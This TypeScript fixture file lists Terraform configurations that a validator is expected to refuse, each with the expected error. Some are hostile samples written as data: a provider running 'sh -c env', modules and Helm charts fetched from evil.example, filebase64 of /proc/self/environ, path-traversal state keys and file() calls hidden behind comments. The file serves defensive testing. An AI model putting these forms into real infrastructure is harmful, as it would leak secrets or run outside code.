const exec = (command: string, ...args: readonly string[]) => ({ exec: [{ command, args }] });

/** What else a configuration has, so that only the form in question is wrong with it. */
const sound = {
  terraform: {
    backend: { s3: { bucket: 'states', key: 'dev/network.tfstate', region: 'eu-west-1' } },
    required_providers: { aws: { source: 'aws', version: '6.25.0' } },
  },
};

/** A form that is refused: what it is, the blocks it adds, and a part of the sentence that refuses it. */
export type RefusedForm = readonly [what: string, blocks: object, problem: string];

/** A sound configuration with a form in it; `terraform` and its parts are merged, everything else is the form's. */
export function withForm(blocks: object): Readonly<Record<string, unknown>> {
  const { terraform = {}, ...others } = blocks as { readonly terraform?: object };
  return { ...sound, ...others, terraform: { ...sound.terraform, ...terraform } };
}

const chart = {
  chart: 'metrics-server',
  repository: 'https://kubernetes-sigs.github.io/metrics-server/',
  version: '1.0.0',
};
const release = (change: object) => ({ resource: { helm_release: { x: { ...chart, ...change } } } });
const called = (expression: string) => ({ locals: { a: expression } });
const remote = (change: object, more = {}) => ({
  data: {
    terraform_remote_state: {
      x: { backend: 's3', config: { bucket: 'states', key: 'dev/network.tfstate', ...change }, ...more },
    },
  },
});

/** By which Terraform would run a program. */
export const programs: readonly RefusedForm[] = [
  ['a program as data', { data: { external: { x: { program: ['sh'] } } } }, 'external is of another provider'],
  ['a module', { module: { x: { source: 'git::https://evil.example' } } }, 'it has a block module'],
  ['a check with data', { check: {} }, 'it has a block check'],
  ['a variable', { variable: { a: { default: 1 } } }, 'it has a block variable'],
  [
    'a provisioner',
    { resource: { aws_vpc: { x: { provisioner: [{ 'local-exec': {} }] } } } },
    'has a block provisioner',
  ],
  [
    'a connection',
    { resource: { aws_vpc: { x: { connection: { host: 'evil.example' } } } } },
    'has a block connection',
  ],
  [
    'a program for what goes',
    { removed: [{ from: 'aws_vpc.x', provisioner: [{ 'local-exec': {} }] }] },
    'that is removed has provisioner',
  ],
  ['a program for charts', release({ postrender: { binary_path: 'x' } }), 'a resource has a block postrender'],
  [
    'a block that is written by another',
    { resource: { aws_vpc: { x: { dynamic: { provisioner: [] } } } } },
    'has a block dynamic',
  ],
  [
    'a program for a token',
    { provider: { kubernetes: [exec('sh', '-c', 'env')] } },
    'provider kubernetes runs "sh -c env"',
  ],
  [
    'aws for something else',
    { provider: { helm: [{ kubernetes: exec('aws', 's3', 'cp') }] } },
    'helm runs "aws s3 cp"',
  ],
  [
    'more than a token of aws',
    { provider: { helm: [{ kubernetes: exec('aws', 'eks', 'get-token', '--endpoint-url', 'https://evil.example') }] } },
    'provider helm runs "aws eks get-token --endpoint',
  ],
  [
    'variables for aws',
    {
      provider: {
        kubernetes: [{ exec: [{ command: 'aws', args: ['eks', 'get-token'], env: { AWS_CONFIG_FILE: 'x' } }] }],
      },
    },
    'provider kubernetes has env for its program',
  ],
  [
    'a kubeconfig, which names a program',
    { provider: { kubernetes: [{ config_path: 'x' }] } },
    'kubernetes has config_path',
  ],
  ['a kubeconfig of helm', { provider: { helm: [{ kubernetes: { config_path: 'x' } }] } }, 'helm has config_path'],
  ['plugins of helm', { provider: { helm: [{ kubernetes: {}, plugins_path: 'x' }] } }, 'helm has plugins_path'],
  ['a credential process', { provider: { aws: { shared_config_files: ['x'] } } }, 'provider'],
  [
    'a provider without a rule',
    { provider: { other: [{ shared_config_files: ['x'] }] } },
    'provider other is configured',
  ],
];

/** By which a program of somebody would be a provider. */
export const providers: readonly RefusedForm[] = [
  [
    'a provider of somebody',
    { terraform: { required_providers: { aws: { source: 'mallory/aws', version: '1.0.0' } } } },
    'mallory/aws is not',
  ],
  [
    'one of another registry',
    { terraform: { required_providers: { aws: { source: 'evil.example/hashicorp/aws', version: '1.0.0' } } } },
    'evil.example/hashicorp/aws is not',
  ],
  [
    'any version',
    { terraform: { required_providers: { aws: { source: 'aws', version: '~> 6.0' } } } },
    'aws has no exact version',
  ],
  [
    'a version alone',
    { terraform: { required_providers: { aws: '6.25.0 || 1' } } },
    'its block terraform is not spelled',
  ],
  [
    'another name for aws',
    { terraform: { required_providers: { kubernetes: { source: 'aws', version: '1.0.0' } } } },
    'aws goes by the name kubernetes',
  ],
  [
    'other names in it',
    { terraform: { required_providers: { aws: { source: 'aws', version: '1.0.0', configuration_aliases: ['x'] } } } },
    'required with configuration_aliases',
  ],
  ['an address for AWS', { provider: { aws: [{ region: 'eu-west-1', endpoints: [] }] } }, 'provider aws has endpoints'],
  ['another role', { provider: { aws: [{ assume_role: [{ role_arn: 'x' }] }] } }, 'provider aws has assume_role'],
  [
    'a cluster of somebody, who would get the token',
    { provider: { kubernetes: [{ host: 'https://evil.example' }] } },
    "host that is not another stack's output",
  ],
];

/** By which a state would be read that is not the app's, or be written elsewhere. */
export const states: readonly RefusedForm[] = [
  ['a cloud backend', { terraform: { cloud: {} } }, 'its terraform block has cloud'],
  ['experiments', { terraform: { experiments: [] } }, 'its block terraform is not spelled'],
  [
    'a state elsewhere',
    { terraform: { backend: { http: { address: 'https://evil.example' } } } },
    'a backend of type http',
  ],
  [
    'two backends',
    { terraform: { backend: { s3: { bucket: 'states', key: 'dev/a.tfstate' }, local: {} } } },
    'it has 2 backends',
  ],
  ['no backend, which is a file', { terraform: { backend: {} } }, 'it has 0 backends'],
  [
    'a profile for a state',
    { terraform: { backend: { s3: { bucket: 'b', key: 'dev/a.tfstate', profile: 'p' } } } },
    'its state has profile',
  ],
  [
    'an endpoint for a state',
    { terraform: { backend: { s3: { bucket: 'b', key: 'dev/a.tfstate', endpoints: {} } } } },
    'its state has endpoints',
  ],
  [
    "another app's state as its own",
    { terraform: { backend: { s3: { bucket: 'b', key: 'prod/network.tfstate' } } } },
    'its state is at "prod/network.tfstate"',
  ],
  [
    'a remote state elsewhere',
    { data: { terraform_remote_state: { x: { backend: 'http', config: {} } } } },
    'a backend of type http',
  ],
  ["another app's state", remote({ key: 'prod/network.tfstate' }), 'a remote state is at "prod/network.tfstate"'],
  ["another app's, by a way round", remote({ key: 'dev/../prod/network.tfstate' }), 'a remote state is at'],
  ["an app's whose name begins alike", remote({ key: 'dev-2/network.tfstate' }), 'a remote state is at'],
  ['a computed one', remote({ key: 'dev/${local.a}.tfstate' }), 'a remote state is at'],
  ['one of another bucket', remote({ bucket: 'theirs' }), 'a remote state is in another bucket'],
  ['one of another workspace', remote({}, { workspace: 'prod' }), 'a remote state is in another workspace'],
  ['defaults for one', remote({}, { defaults: {} }), 'a remote state has defaults'],
];

/** By which content would be read, or sent to somebody. */
export const contents: readonly RefusedForm[] = [
  [
    'an object of a bucket',
    { data: { aws_s3_object: { x: { bucket: 'b', key: 'k' } } } },
    'data of type aws_s3_object is not',
  ],
  [
    'an object in a bucket of somebody',
    { resource: { aws_s3_object: { x: { bucket: 'theirs', content: '${local.a}' } } } },
    'type aws_s3_object are not',
  ],
  [
    'a secret',
    { data: { aws_secretsmanager_secret_version: { x: {} } } },
    'data of type aws_secretsmanager_secret_version is not',
  ],
  [
    'a secret of the cluster',
    { data: { kubernetes_secret_v1: { x: {} } } },
    'data of type kubernetes_secret_v1 is not',
  ],
  [
    'templates of a chart, with what a state has',
    { data: { helm_template: { x: { ...chart, values: ['${local.a}'] } } } },
    'data of type helm_template is not',
  ],
  ['user data of machines', { data: { aws_launch_template: { x: {} } } }, 'data of type aws_launch_template is not'],
  ['a key of a user', { resource: { aws_iam_access_key: { x: {} } } }, 'type aws_iam_access_key are not'],
  [
    'what starts actions',
    { resource: { aws_vpc: { x: { lifecycle: { action_trigger: [] } } } } },
    'a lifecycle has action_trigger',
  ],
  [
    'a computed address of a chart',
    release({ repository: 'https://evil.example/${local.a}' }),
    'a computed repository',
  ],
  ['a chart of somebody', release({ repository: 'https://evil.example' }), 'comes from "https://evil.example"'],
  [
    'a chart by its address',
    release({ repository: undefined, chart: 'https://evil.example/x.tgz' }),
    'is at "https://evil.example/x.tgz"',
  ],
  [
    'a chart of the machine',
    release({ repository: undefined, chart: 'assets/../../../etc' }),
    'is at "assets/../../../etc"',
  ],
  ['a file for the host of a chart', release({ repository_cert_file: '/x' }), 'a chart has repository_cert_file'],
  ['a chart whose templates are rendered', release({ lint: true }), 'a chart has lint'],
  ['more charts', release({ dependency_update: true }), 'a chart has dependency_update'],
];

/** Expressions that read the machine's files, or hide that they do. */
export const expressions: readonly RefusedForm[] = [
  [
    'a file',
    { resource: { aws_vpc: { x: { tags: { a: '${filebase64("/proc/self/environ")}' } } } } },
    'it calls filebase64()',
  ],
  ['a file in a key', { resource: { aws_vpc: { x: { tags: { '${file("x")}': 'a' } } } } }, 'it calls file()'],
  [
    'a file under the name of a comment',
    { resource: { aws_vpc: { x: { tags: { '//': '${file("x")}' } } } } },
    'it calls file()',
  ],
  ['a file behind a comment', called('${file/**/("x")}'), 'hides what is called'],
  ['a file behind a comment to the end of its line', called('${file # x\n("x")}'), 'hides what is called'],
  ['a file behind another such comment', called('${file // x\n("x")}'), 'hides what is called'],
  ['a file by its namespace', called('${core::file("x")}'), 'hides what is called'],
  ['a function of a provider', called('${provider::aws::arn_parse("x")}'), 'hides what is called'],
  ['a file in a text in code', called('${join("${file("x")}", [])}'), 'it calls file()'],
  ['a file in a condition', called('%{ if templatefile ("x", {}) }%{ endif }'), 'it calls templatefile()'],
  ['a file behind blanks', called('${file\n\t ("x")}'), 'it calls file()'],
  ['a text that becomes a template', called('${templatestring(local.b, {})}'), 'it calls templatestring()'],
  ['a mark that is taken off', { output: { a: { value: '${nonsensitive(local.b)}' } } }, 'it calls nonsensitive()'],
  ['another value each time', called('${timestamp()}'), 'it calls timestamp()'],
  ['a text of several lines in code', called('${<<EOT\n${file("x")}\nEOT\n}'), 'hides what is called'],
  ['an expression that does not end', called('${join("'), 'does not end'],
];

export const refusedForms: readonly RefusedForm[] = [...programs, ...providers, ...states, ...contents, ...expressions];
